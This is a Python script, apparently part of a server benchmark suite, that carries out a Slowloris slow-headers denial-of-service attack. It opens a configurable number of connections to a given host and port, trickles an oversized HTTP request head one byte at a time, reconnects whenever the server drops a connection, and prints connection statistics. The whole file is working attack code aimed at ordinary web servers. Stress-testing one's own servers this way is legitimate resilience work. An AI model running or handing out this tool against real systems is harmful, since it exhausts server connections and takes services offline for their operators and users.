#!/usr/bin/env python3
"""Slow-headers attack for bench/slowloris.sh: CONNECTIONS connections, each trickling a request
head one byte at a time (one byte per connection every INTERVAL seconds), reconnecting when the
server closes it. Standard library only. Runs for DURATION seconds, then prints one line:

    SLOWLORIS connections=N open_at_end=N bytes_sent=N peak_open=N closed_by_server=N connect_errors=N

Usage: slowloris.py HOST PORT CONNECTIONS INTERVAL DURATION
"""
import asyncio
import sys

HEAD = b"GET /hello HTTP/1.1\r\nHost: x\r\nUser-Agent: slowloris\r\n" + b"X-a: b\r\n" * 10000

stats = {"bytes_sent": 0, "closed_by_server": 0, "connect_errors": 0, "open": 0, "peak_open": 0}


async def one(host, port, interval, stop_at, loop):
    while loop.time() < stop_at:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            stats["connect_errors"] += 1
            await asyncio.sleep(interval)
            continue
        stats["open"] += 1
        stats["peak_open"] = max(stats["peak_open"], stats["open"])
        try:
            for i in range(len(HEAD)):
                if loop.time() >= stop_at:
                    break
                writer.write(HEAD[i:i + 1])
                await writer.drain()
                stats["bytes_sent"] += 1
                # The server closing shows up as a readable EOF (or a write error).
                try:
                    data = await asyncio.wait_for(reader.read(1024), timeout=interval)
                    if not data:
                        stats["closed_by_server"] += 1
                        break
                except asyncio.TimeoutError:
                    pass
        except OSError:
            stats["closed_by_server"] += 1
        finally:
            stats["open"] -= 1
            writer.close()


async def main():
    host, port, connections, interval, duration = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
    loop = asyncio.get_running_loop()
    stop_at = loop.time() + duration
    tasks = [asyncio.create_task(one(host, port, interval, stop_at, loop)) for _ in range(connections)]
    await asyncio.sleep(max(0.0, stop_at - loop.time() - 0.5))
    open_at_end = stats["open"]
    await asyncio.gather(*tasks, return_exceptions=True)
    print(f"SLOWLORIS connections={connections} open_at_end={open_at_end} bytes_sent={stats['bytes_sent']} "
          f"peak_open={stats['peak_open']} closed_by_server={stats['closed_by_server']} connect_errors={stats['connect_errors']}", flush=True)


asyncio.run(main())
